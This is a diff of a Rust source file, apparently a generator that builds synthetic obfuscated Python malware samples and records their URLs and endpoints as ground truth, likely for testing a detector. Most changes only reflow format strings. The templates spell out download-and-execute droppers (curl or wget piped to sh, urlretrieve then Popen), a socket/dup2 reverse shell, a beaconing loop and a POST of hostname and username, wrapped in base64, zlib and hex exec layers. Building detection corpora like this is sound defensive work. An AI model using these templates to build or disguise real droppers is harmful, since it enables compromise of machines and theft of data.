@@ -48,7 +48,10 @@ fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
         }
         11 => {
             before.push_str("import zlib, base64\n");
-            format!("zlib.decompress(base64.b64decode(b'{}')).decode()", base64(&zlib(text.as_bytes())))
+            format!(
+                "zlib.decompress(base64.b64decode(b'{}')).decode()",
+                base64(&zlib(text.as_bytes()))
+            )
         }
         12 => {
             before.push_str("import codecs\n");
@@ -85,22 +88,45 @@ fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
 }
 
 pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
-    let mut text = dice.pick(&["#!/usr/bin/env python3\n", "#!/usr/bin/python3\n# -*- coding: utf-8 -*-\n", "#!/usr/bin/python3 -u\n"]).to_owned();
+    let mut text = dice
+        .pick(&[
+            "#!/usr/bin/env python3\n",
+            "#!/usr/bin/python3\n# -*- coding: utf-8 -*-\n",
+            "#!/usr/bin/python3 -u\n",
+        ])
+        .to_owned();
     for _ in 0..1 + dice.below(2) {
         let mut before = String::new();
         let line = delivery(dice, truth, &mut before);
         text.push_str(&before);
         text.push_str(&line);
+        if super::ends(&line) {
+            break;
+        }
     }
     match dice.below(9) {
-        0 => format!("#!/usr/bin/python3\nimport base64\nexec(base64.b64decode('{}'))\n", base64(text.as_bytes())),
-        1 => format!("#!/usr/bin/python3\nexec(__import__('zlib').decompress(__import__('base64').b64decode(b'{}')).decode())\n", base64(&zlib(text.as_bytes()))),
-        2 => format!("#!/usr/bin/python3\n_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{}'))\n", reversed(&base64(&zlib(text.as_bytes())))),
+        0 => format!(
+            "#!/usr/bin/python3\nimport base64\nexec(base64.b64decode('{}'))\n",
+            base64(text.as_bytes())
+        ),
+        1 => format!(
+            "#!/usr/bin/python3\nexec(__import__('zlib').decompress(__import__('base64').b64decode(b'{}')).decode())\n",
+            base64(&zlib(text.as_bytes()))
+        ),
+        2 => format!(
+            "#!/usr/bin/python3\n_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{}'))\n",
+            reversed(&base64(&zlib(text.as_bytes())))
+        ),
         3 => {
             let body: String = text.lines().map(|line| format!("    {line}\n")).collect();
-            format!("#!/usr/bin/python3\ndef main():\n{body}\nif __name__ == '__main__':\n    main()\n")
+            format!(
+                "#!/usr/bin/python3\ndef main():\n{body}\nif __name__ == '__main__':\n    main()\n"
+            )
         }
-        4 => format!("#!/usr/bin/python3\neval(compile(bytes.fromhex('{}').decode(), '<string>', 'exec'))\n", hex(text.as_bytes())),
+        4 => format!(
+            "#!/usr/bin/python3\neval(compile(bytes.fromhex('{}').decode(), '<string>', 'exec'))\n",
+            hex(text.as_bytes())
+        ),
         _ => text,
     }
 }
@@ -112,37 +138,51 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
         0 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("import urllib.request, os\n{var} = urllib.request.urlopen({url}).read()\nwith open('{file}', 'wb') as f:\n    f.write({var})\nos.chmod('{file}', 0o755)\nos.system('{file} &')\n")
+            format!(
+                "import urllib.request, os\n{var} = urllib.request.urlopen({url}).read()\nwith open('{file}', 'wb') as f:\n    f.write({var})\nos.chmod('{file}', 0o755)\nos.system('{file} &')\n"
+            )
         }
         1 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("from urllib.request import urlretrieve\nimport subprocess\nurlretrieve({url}, '{file}')\nsubprocess.Popen(['/bin/sh', '{file}'])\n")
+            format!(
+                "from urllib.request import urlretrieve\nimport subprocess\nurlretrieve({url}, '{file}')\nsubprocess.Popen(['/bin/sh', '{file}'])\n"
+            )
         }
         2 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("import requests, os, stat\nr = requests.get({url}, verify=False, timeout=10)\nopen('{file}', 'wb').write(r.content)\nst = os.stat('{file}')\nos.chmod('{file}', st.st_mode | stat.S_IEXEC)\nos.popen('{file}')\n")
+            format!(
+                "import requests, os, stat\nr = requests.get({url}, verify=False, timeout=10)\nopen('{file}', 'wb').write(r.content)\nst = os.stat('{file}')\nos.chmod('{file}', st.st_mode | stat.S_IEXEC)\nos.popen('{file}')\n"
+            )
         }
         3 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("import os\nos.system('wget -q ' + {url} + ' -O {file} && chmod +x {file} && {file}')\n")
+            format!(
+                "import os\nos.system('wget -q ' + {url} + ' -O {file} && chmod +x {file} && {file}')\n"
+            )
         }
         4 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("import subprocess\nsubprocess.call('curl -s -o {file} %s; sh {file}' % ({url}), shell=True)\n")
+            format!(
+                "import subprocess\nsubprocess.call('curl -s -o {file} %s; sh {file}' % ({url}), shell=True)\n"
+            )
         }
         5 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("import subprocess\nsubprocess.run(['curl', '-fsSL', {url}, '-o', '{file}'], check=False)\n")
+            format!(
+                "import subprocess\nsubprocess.run(['curl', '-fsSL', {url}, '-o', '{file}'], check=False)\n"
+            )
         }
         6 => {
             let (host, port) = truth.endpoint(dice);
             let host = hide(dice, &host, before);
-            format!("import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(({host},{port}))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\np=subprocess.call(['/bin/sh','-i'])\n")
+            format!(
+                "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(({host},{port}))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\np=subprocess.call(['/bin/sh','-i'])\n"
+            )
         }
         7 => {
             let url = truth.url(dice, &[".py", ".txt", ""]);
@@ -152,35 +192,47 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
         8 => {
             let (host, port) = truth.endpoint(dice);
             let host = hide(dice, &host, before);
-            format!("import socket, time, threading\nHOST = {host}\nPORT = {port}\ndef {var}():\n    while True:\n        try:\n            s = socket.socket()\n            s.connect((HOST, PORT))\n            while True:\n                data = s.recv(1024)\n                if not data:\n                    break\n                s.send(data)\n        except Exception as e:\n            time.sleep(60)\nt = threading.Thread(target={var})\nt.start()\n")
+            format!(
+                "import socket, time, threading\nHOST = {host}\nPORT = {port}\ndef {var}():\n    while True:\n        try:\n            s = socket.socket()\n            s.connect((HOST, PORT))\n            while True:\n                data = s.recv(1024)\n                if not data:\n                    break\n                s.send(data)\n        except Exception as e:\n            time.sleep(60)\nt = threading.Thread(target={var})\nt.start()\n"
+            )
         }
         9 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("import sys\ntry:\n    import urllib2\n    opener = urllib2\nexcept ImportError:\n    import urllib.request\n    opener = urllib.request\nreq = opener.Request({url}, headers={{'User-Agent': 'Mozilla/5.0'}})\n{var} = opener.urlopen(req, timeout=5).read()\nopen('{file}', 'wb').write({var})\n")
+            format!(
+                "import sys\ntry:\n    import urllib2\n    opener = urllib2\nexcept ImportError:\n    import urllib.request\n    opener = urllib.request\nreq = opener.Request({url}, headers={{'User-Agent': 'Mozilla/5.0'}})\n{var} = opener.urlopen(req, timeout=5).read()\nopen('{file}', 'wb').write({var})\n"
+            )
         }
         10 => {
             let host = dice.host();
             let path = format!("/{}/{}", dice.name(), dice.name());
             truth.urls.insert(format!("http://{host}{path}"));
             let host = hide(dice, &host, before);
-            format!("import http.client\nconn = http.client.HTTPConnection({host})\nconn.request('GET', '{path}')\n{var} = conn.getresponse().read()\nopen('{file}', 'wb').write({var})\n")
+            format!(
+                "import http.client\nconn = http.client.HTTPConnection({host})\nconn.request('GET', '{path}')\n{var} = conn.getresponse().read()\nopen('{file}', 'wb').write({var})\n"
+            )
         }
         11 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
             let class = dice.name();
-            format!("import os\nfrom urllib import request\nclass {class}:\n    def __init__(self, url):\n        self.url = url\n        self.path = os.path.join('/tmp', os.path.basename(url))\n    def get(self):\n        data = request.urlopen(self.url).read()\n        with open(self.path, 'wb') as out:\n            out.write(data)\n        return self.path\nd = {class}({url})\nos.system('chmod 777 ' + d.get())\n")
+            format!(
+                "import os\nfrom urllib import request\nclass {class}:\n    def __init__(self, url):\n        self.url = url\n        self.path = os.path.join('/tmp', os.path.basename(url))\n    def get(self):\n        data = request.urlopen(self.url).read()\n        with open(self.path, 'wb') as out:\n            out.write(data)\n        return self.path\nd = {class}({url})\nos.system('chmod 777 ' + d.get())\n"
+            )
         }
         12 => {
             let (host, port) = truth.endpoint(dice);
             let host = hide(dice, &host, before);
-            format!("import socket\nsock = socket.create_connection(({host}, {port}), timeout=10)\nsock.sendall(b'NICK {var}\\r\\n')\n")
+            format!(
+                "import socket\nsock = socket.create_connection(({host}, {port}), timeout=10)\nsock.sendall(b'NICK {var}\\r\\n')\n"
+            )
         }
         13 => {
             let url = truth.url(dice, &[".sh"]);
             let url = hide(dice, &url, before);
-            format!("import os, platform\nif platform.system() == 'Linux':\n    {var} = {url}\n    os.popen('curl -s {{}} | bash'.format({var})).read()\n")
+            format!(
+                "import os, platform\nif platform.system() == 'Linux':\n    {var} = {url}\n    os.popen('curl -s {{}} | bash'.format({var})).read()\n"
+            )
         }
         14 => {
             let base = format!("http://{}/{}/", dice.host(), dice.name());
@@ -190,12 +242,17 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
             }
             let list: Vec<String> = files.iter().map(|file| format!("'{file}'")).collect();
             let base = hide(dice, &base, before);
-            format!("import urllib.request\n{var} = {base}\nfor name in [{}]:\n    try:\n        urllib.request.urlretrieve({var} + name, '/tmp/' + name)\n    except Exception:\n        pass\n", list.join(", "))
+            format!(
+                "import urllib.request\n{var} = {base}\nfor name in [{}]:\n    try:\n        urllib.request.urlretrieve({var} + name, '/tmp/' + name)\n    except Exception:\n        pass\n",
+                list.join(", ")
+            )
         }
         _ => {
             let url = truth.url(dice, &["", ".php", "/api"]);
             let url = hide(dice, &url, before);
-            format!("import json, urllib.request, socket, getpass\n{var} = json.dumps({{'host': socket.gethostname(), 'user': getpass.getuser()}}).encode()\nreq = urllib.request.Request({url}, data={var}, headers={{'Content-Type': 'application/json'}}, method='POST')\nurllib.request.urlopen(req)\n")
+            format!(
+                "import json, urllib.request, socket, getpass\n{var} = json.dumps({{'host': socket.gethostname(), 'user': getpass.getuser()}}).encode()\nreq = urllib.request.Request({url}, data={var}, headers={{'Content-Type': 'application/json'}}, method='POST')\nurllib.request.urlopen(req)\n"
+            )
         }
     }
 }
